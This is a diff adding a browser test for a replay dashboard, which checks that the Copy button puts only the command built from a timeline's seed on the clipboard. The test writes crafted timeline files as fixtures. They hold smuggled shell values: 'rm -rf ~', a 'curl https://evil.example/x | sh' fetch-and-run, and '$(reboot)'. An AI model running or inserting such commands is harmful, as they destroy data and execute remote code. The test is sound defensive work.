@@ -6,7 +6,7 @@
 // uncaught exception. Screenshots of every view go to test-results/screenshots/.
 
 import assert from "node:assert/strict";
-import { copyFileSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
@@ -228,6 +228,39 @@ describe("dashboard against a live orq", { timeout: 15 * 60_000 }, () => {
       assert.match((await page.getByTestId("replay-command").textContent()) ?? "", /--seed 1 --planted lease_ignores_run_at/);
       assert.ok((await page.locator('[data-testid="marker"][data-kind="violation"]').count()) === 1, "the violation on the time axis");
       await screenshot(page, "replay-violation");
+    });
+  });
+
+  test("Copy puts the command built from a timeline's seed on the clipboard, never the file's replay line", async () => {
+    // Crafted timelines, as someone could hand a user one: a replay line that is a shell command,
+    // and options full of shell metacharacters. The clipboard must hold the command built from the
+    // seed, or nothing be copied at all.
+    const events = ['{"t_ms":1,"actor":"client","kind":"queued","task":"01K","tenant":"t","attempt":0,"details":{}}'];
+    const crafted = (name: string, header: Record<string, unknown>) => {
+      const line = JSON.stringify({ kind: "header", version: 1, replay: "rm -rf ~", ...header });
+      writeFileSync(join(world.timelinesDir, name), [line, ...events].join("\n") + "\n");
+    };
+    crafted("crafted-replay.jsonl", { seed: 4242, config: { seed: 4242, planted: "lease_ignores_run_at", lossy_restart: false, chosen: { families: ["crash"], tasks: 9 } } });
+    crafted("crafted-options.jsonl", { seed: 7, config: { seed: 7, planted: "none; curl https://evil.example/x | sh", chosen: { families: ["$(reboot)"] } } });
+    await withPage(async ({ page, context }) => {
+      await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: world.base });
+      await page.goto("/replay/");
+      await page.getByTestId("timeline-crafted-replay.jsonl").click();
+      await waitText(page, '[data-testid="timeline-seed"]', (t) => t === "4242", "the crafted timeline opened");
+      const built = "cargo run -p orq-sim -- run --seed 4242 --planted lease_ignores_run_at --faults crash --tasks 9";
+      assert.equal(await page.getByTestId("replay-command").textContent(), built);
+      await page.getByTestId("replay-differs").waitFor();
+      await page.getByTestId("replay-copy").click();
+      await waitText(page, '[data-testid="replay-copy"]', (t) => t === "Copied", "the copy done");
+      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), built);
+      // Options that are not orq-sim's: no command, Copy disabled with the reason, the clipboard untouched.
+      await page.getByTestId("timeline-crafted-options.jsonl").click();
+      await waitText(page, '[data-testid="timeline-seed"]', (t) => t === "7", "the second crafted timeline opened");
+      assert.match((await page.getByTestId("replay-refused").textContent()) ?? "", /planted bug "none; curl https:\/\/evil\.example.* is not one orq-sim knows/);
+      assert.equal(await page.getByTestId("replay-command").count(), 0);
+      assert.equal(await page.getByTestId("replay-copy").isDisabled(), true);
+      assert.match((await page.getByTestId("replay-copy").getAttribute("title")) ?? "", /^No command to copy: planted bug/);
+      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), built);
     });
   });
 
